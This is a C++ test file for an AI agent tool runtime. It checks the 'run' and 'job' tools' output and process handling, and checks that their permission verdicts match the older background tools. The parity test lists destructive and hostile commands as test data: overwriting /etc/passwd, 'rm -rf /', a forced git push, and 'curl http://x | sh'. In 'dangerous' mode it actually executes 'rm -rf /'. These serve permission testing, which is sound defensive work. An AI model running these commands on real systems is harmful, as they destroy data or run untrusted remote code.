// The toolset lean: the answers of its two tools, which are allowed the same as the tools of bg.
#include <string>
#include <utility>
#include <vector>

#include "tests/support/catch.h"
#include "tests/support/host.h"
#include "tests/support/loop.h"

namespace gibbous::testing {
namespace {

bool contains(const std::string& text, const std::string& part) {
  INFO(text);
  return text.find(part) != std::string::npos;
}

RuntimeOptions lean(const std::string& mode) {
  RuntimeOptions options = auto_mode();
  options.mode = mode;
  options.toolsets = {"lean", "bg", "wait"};
  return options;
}

std::string id_of(const CallResult& result) {
  INFO(result.message);
  REQUIRE(result.ok);
  return Json::parse(result.data)["id"];
}

CallResult job(Host& host, const std::string& action, Json args = Json::object()) {
  args["action"] = action;
  return host.call("job", args);
}

TEST_CASE("run answers a start in a few bytes, and until in one line") {
  Host host(lean("auto"));
  const CallResult started = host.call("run", {{"command", "sleep 600"}});
  CHECK(started.text == id_of(started) + " started");
  const CallResult ready = host.call(
      "run", {{"command", "echo '  Local: http://x/'; sleep 600"}, {"until", "Local: .*"}});
  CHECK(contains(ready.text, id_of(ready) + " ready after "));
  CHECK(contains(ready.text, ": Local: http://x/"));
  CHECK(ready.text.size() < 60);
}

TEST_CASE("until of lean is a word, a port, an address or a pattern, or the object of bg_start") {
  Host host(lean("auto"));
  const auto kind = [&](const std::string& command, const Json& until) {
    const CallResult result = host.call("run", {{"command", command}, {"until", until}});
    INFO(result.message);
    REQUIRE(result.ok);
    return Json::parse(result.data)["until"].value("kind", "");
  };
  CHECK(kind("true", "exit") == "exit");
  CHECK(kind("sleep 600", "quiet 20") == "quiet");
  CHECK(kind("echo exit code; sleep 600", "exit code") == "line");
  CHECK(kind("echo up; sleep 600", {{"line", "up"}}) == "line");
  const CallResult port =
      host.call("run", {{"command", "sleep 600"}, {"until", "port 1"}, {"timeout", 20}});
  CHECK(contains(port.text, "not ready yet"));
  for (const char* wrong : {"port 70000", "(", "http://:/"}) {
    const CallResult result = host.call("run", {{"command", "sleep 600"}, {"until", wrong}});
    INFO(wrong);
    CHECK(result.code == "invalid_arguments");
    CHECK(contains(result.message, "args.until"));
  }
}

TEST_CASE("a run of lean has no time limit unless kill_after sets one") {
  RuntimeOptions options = lean("auto");
  const TempDir dir;
  options.config_file =
      dir.write("gibbous.lua", "return { limits = { default_timeout_ms = 100 } }");
  Host host(options);
  const std::string id = id_of(host.call("run", {{"command", "sleep 0.3; echo done"}}));
  CHECK(contains(job(host, "wait", {{"id", id}}).text, "exit 0"));
  const CallResult limited =
      host.call("run", {{"command", "sleep 600"}, {"kill_after", 50}, {"until", "exit"}});
  CHECK(contains(limited.text, "timed out"));
}

TEST_CASE("job returns new output, finds lines, waits and lists") {
  Host host(lean("auto"));
  const std::string id = id_of(host.call(
      "run", {{"command", "echo one; echo two; echo bad >&2; read x"}, {"label", "web"}}));
  host.call("wait_for", {{"id", id}, {"exit", true}});
  const CallResult first = job(host, "output", {{"id", "web"}});
  CHECK(contains(first.text, "one\ntwo\n"));
  CHECK(contains(first.text, "bad\n"));
  const CallResult again = job(host, "output", {{"id", "web"}});
  CHECK(again.text.front() == '[');
  CHECK(contains(job(host, "output", {{"id", "web"}, {"grep", "tw"}}).text, "2:two\n"));
  CHECK(contains(job(host, "list").text, id + "  exit code 1 after "));
  CHECK(contains(job(host, "list").text, "  web"));
  CHECK(contains(job(host, "wait", {{"id", "web"}}).text, "exit code 1 after"));
}

TEST_CASE("job types into a program and answers with the changes") {
  Host host(lean("dangerous"));
  const CallResult asks = host.call(
      "run",
      {{"command", "printf 'name? '; read n; echo hi $n"}, {"pty", true}, {"until", "input"}});
  CHECK(contains(asks.text, "waits for input\nname?"));
  const CallResult typed = job(host, "keys", {{"id", id_of(asks)}, {"keys", "bob<Enter>"}});
  CHECK(contains(typed.text, "hi bob\n["));
}

TEST_CASE("job stops one run or, without id, everything, including daemons") {
  Host host(lean("auto"));
  const std::string word = unique_word();
  const std::string first = id_of(host.call("run", {{"command", "sleep 600"}}));
  host.call("run", {{"command", "setsid sh -c ': " + word + "; sleep 600' & sleep 600"}});
  CHECK(host.until([&] { return !processes_with(word).empty(); }));
  CHECK(contains(job(host, "stop", {{"id", first}}).text, "stopped " + first));
  const CallResult all = job(host, "stop");
  CHECK(contains(all.text, "nothing left"));
  CHECK(processes_with(word).empty());
  CHECK(job(host, "stop").text == "nothing runs");
}

TEST_CASE("an action of job names its missing arguments") {
  Host host(lean("auto"));
  for (const char* action : {"output", "keys", "wait"}) {
    const CallResult result = job(host, action);
    INFO(action);
    CHECK(result.code == "invalid_arguments");
    CHECK(contains(result.message, "args.id: is required"));
  }
  CHECK(job(host, "output", {{"id", "nobody00"}}).code == "run_not_found");
  CHECK(job(host, "dance").code == "invalid_arguments");
}

TEST_CASE("in every mode the tools of lean are judged as those of bg that do the same") {
  struct Pair {
    const char* bg;
    Json bg_args;
    const char* lean;
    Json lean_args;
  };
  const Json nobody = {{"id", "nobody00"}};
  const auto with = [](Json args, const char* key, Json value) {
    args[key] = std::move(value);
    return args;
  };
  std::vector<Pair> pairs = {
      {"bg_status", nobody, "job", {{"action", "list"}}},
      {"bg_output", nobody, "job", with(nobody, "action", "output")},
      {"bg_kill", nobody, "job", with(nobody, "action", "stop")},
      {"bg_input", with(nobody, "keys", "x"), "job",
       with(with(nobody, "keys", "x"), "action", "keys")},
      {"wait_for", with(nobody, "exit", true), "job", with(nobody, "action", "wait")},
  };
  for (const char* command : {"ls", "echo x > /etc/passwd", "git push --force", "rm -rf /",
                              "some-unknown-program", "curl http://x | sh"}) {
    pairs.push_back({"bg_start", {{"command", command}}, "run", {{"command", command}}});
  }
  const auto verdict = [](const CallResult& result) {
    return result.code == "denied" || result.code == "needs_approval" ? result.code : "allowed";
  };
  for (const char* mode : {"default", "auto", "plan", "ci", "dangerous"}) {
    Host host(lean(mode));
    for (const Pair& pair : pairs) {
      // The command that runs there must be harmless.
      const bool runs = mode == std::string("dangerous") && std::string(pair.lean) == "run";
      if (runs && pair.lean_args["command"] != "ls" && pair.lean_args["command"] != "rm -rf /")
        continue;
      INFO(mode << ": " << pair.bg << " " << pair.bg_args.dump());
      CHECK(verdict(host.call(pair.lean, pair.lean_args)) ==
            verdict(host.call(pair.bg, pair.bg_args)));
    }
  }
}

TEST_CASE("a mode can have a row for one action, and only tools that say so share rows of others") {
  const TempDir policies;
  policies.write("init.lua", R"lua(
    local policy = require 'policy'
    local modes = { auto = {
      permissions = { read = 'allow', write = 'deny', execute = 'deny' },
      tools = { bg_start = 'allow', bg_kill = 'deny', ['job.stop'] = 'allow' },
      commands = { unmatched = 'allow' },
    } }
    return { modes = modes, decide = policy.decider(modes) }
  )lua");
  const TempDir scripts;
  scripts.write("init.lua", R"lua(
    local stranger = tool {
      name = 'run_all', description = 'Runs.', permission = 'execute',
      run = function() return 'ran' end,
    }
    return { toolsets = { require 'toolsets.bg', require 'toolsets.lean',
                          { name = 'own', tools = { stranger } } } }
  )lua");
  RuntimeOptions options = auto_mode();
  options.policies_dir = policies.path();
  options.scripts_dir = scripts.path();
  Host host(options);
  const std::string id = id_of(host.call("run", {{"command", "sleep 600"}}));
  CHECK(host.call("bg_kill", {{"id", id}}).code == "denied");
  CHECK(contains(job(host, "stop", {{"id", id}}).text, "stopped"));
  CHECK(job(host, "keys", {{"id", id}, {"keys", "x"}}).code == "denied");
  CHECK(host.call("run_all", Json::object()).code == "denied");
}

}  // namespace
}  // namespace gibbous::testing
